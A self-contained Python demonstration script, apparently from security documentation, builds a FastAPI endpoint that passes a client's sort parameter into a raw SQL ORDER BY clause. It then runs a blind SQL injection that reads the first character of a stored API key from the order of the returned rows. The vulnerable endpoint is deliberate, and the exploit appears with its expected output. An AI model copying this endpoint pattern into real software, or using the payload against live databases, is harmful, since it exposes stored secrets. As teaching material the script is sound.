# /// script
# requires-python = ">=3.11"
# dependencies = [
#     "sqlalchemy[asyncio]>=2.0.22", "aiosqlite", "asyncpg", "psycopg[binary]", "fastapi>=0.121", "httpx", "uvicorn",
# ]
# ///
# silent: the order of the rows tells the client what is in another table
import asyncio
import os
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from typing import Annotated, TypedDict

import httpx
import uvicorn
from fastapi import Depends, FastAPI
from fastapi.requests import HTTPConnection
from pydantic import BaseModel
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker, create_async_engine
from sqlalchemy.orm import DeclarativeBase, Mapped, mapped_column

DATABASE_URL = os.environ.get("DATABASE_URL", "sqlite+aiosqlite:///greenlit.db")


class Base(DeclarativeBase):
    pass


# --8<-- [start:models]
class User(Base):
    __tablename__ = "users"

    id: Mapped[int] = mapped_column(primary_key=True)
    name: Mapped[str]


class ApiKey(Base):
    __tablename__ = "api_keys"

    id: Mapped[int] = mapped_column(primary_key=True)
    secret: Mapped[str]


# --8<-- [end:models]


class State(TypedDict):
    session_factory: async_sessionmaker[AsyncSession]


@asynccontextmanager
async def lifespan(app: FastAPI) -> AsyncIterator[State]:
    engine = create_async_engine(DATABASE_URL)
    try:
        yield {"session_factory": async_sessionmaker(engine, expire_on_commit=False, close_resets_only=False)}
    finally:
        await engine.dispose()


app = FastAPI(lifespan=lifespan)


async def get_session(connection: HTTPConnection) -> AsyncIterator[AsyncSession]:
    async with connection.state.session_factory() as session:
        yield session
        await session.commit()


SessionDep = Annotated[AsyncSession, Depends(get_session, scope="function")]


class UserOut(BaseModel):
    id: int
    name: str


# --8<-- [start:endpoint]
@app.get("/users", response_model=list[UserOut])
async def list_users(session: SessionDep, sort: str = "name") -> Sequence[User]:
    query = select(User).order_by(text(sort), User.id)
    return (await session.scalars(query)).all()


# --8<-- [end:endpoint]


@asynccontextmanager
async def serving(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    """A client of a real server on a free port."""
    server = uvicorn.Server(uvicorn.Config(app, port=0, log_level="critical"))
    task = asyncio.create_task(server.serve())
    try:
        while not server.started:
            await asyncio.sleep(0.01)
        port = server.servers[0].sockets[0].getsockname()[1]
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}") as client:
            yield client
    finally:
        server.should_exit = True
        await task


def ids(response: httpx.Response) -> list[int]:
    return [user["id"] for user in response.json()] if response.status_code == 200 else []


async def create_tables(database_url: str) -> None:
    engine = create_async_engine(database_url)
    async with engine.begin() as connection:
        await connection.run_sync(Base.metadata.drop_all)
        await connection.run_sync(Base.metadata.create_all)
    async with AsyncSession(engine) as session, session.begin():
        session.add_all([User(id=1, name="Grace"), User(id=2, name="Ada"), User(id=3, name="Mary")])
        session.add(ApiKey(id=1, secret="s3cr3t"))
    await engine.dispose()


async def main() -> None:
    await create_tables(DATABASE_URL)
    async with serving(app) as client:
        # --8<-- [start:attack]
        for letter in "r", "s":
            question = f"(SELECT substr(secret, 1, 1) FROM api_keys) = '{letter}'"
            sort = f"CASE WHEN {question} THEN id ELSE -id END"
            response = await client.get("/users", params={"sort": sort})
            print(letter, response.status_code, ids(response))
            #> r 200 [3, 2, 1]
            #> s 200 [1, 2, 3]
        # --8<-- [end:attack]
        # --8<-- [start:test]
        for sort in "name", "name DESC":
            response = await client.get("/users", params={"sort": sort})
            print(sort, response.status_code, ids(response))
            #> name 200 [2, 1, 3]
            #> name DESC 200 [3, 1, 2]
        # --8<-- [end:test]


if __name__ == "__main__":
    asyncio.run(main())
